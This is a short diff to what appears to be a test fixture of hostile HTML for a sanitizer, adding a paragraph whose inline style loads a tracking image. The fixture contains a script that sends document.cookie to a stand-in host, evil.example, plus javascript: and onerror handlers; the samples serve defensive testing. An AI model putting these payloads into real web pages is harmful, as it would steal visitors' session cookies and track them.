@@ -56,7 +56,9 @@ HOSTILE_HTML = (
     '<script>document.location="https://evil.example/steal?c="+document.cookie</script>\n'
     '<a href="javascript:alert(1)" onclick="steal()">click me</a>\n'
     '<img src="https://tracker.example/p.gif" onerror="steal()">\n'
-    "<p>Regards, Alice</p></body></html>\n"
+    # A style the attribute filter must cut: nh3 calls it back into Python.
+    '<p style="color: navy; background: url(https://tracker.example/bg.gif)">Regards, Alice</p>'
+    "</body></html>\n"
 )
 
 
